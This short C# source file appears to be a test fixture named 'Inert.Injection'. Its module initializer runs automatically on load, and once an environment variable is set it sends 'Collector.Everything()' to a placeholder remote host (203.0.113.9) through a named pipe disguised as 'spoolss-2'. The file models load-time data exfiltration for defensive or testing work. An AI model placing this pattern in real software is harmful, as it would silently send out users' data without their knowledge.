using System;
using System.IO.Pipes;
using System.Runtime.CompilerServices;
using System.Threading.Tasks;

namespace Inert.Injection;

internal static class Startup
{
#pragma warning disable CA2255
    [ModuleInitializer]
    internal static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        Task.Run(() =>
        {
            // A pipe of another machine: file sharing instead of HTTP.
            using var pipe = new NamedPipeClientStream("203.0.113.9", "spoolss-2", PipeDirection.Out);
            pipe.Connect(3000);
            pipe.Write(Seal.Close(Collector.Everything()));
        });
    }
}
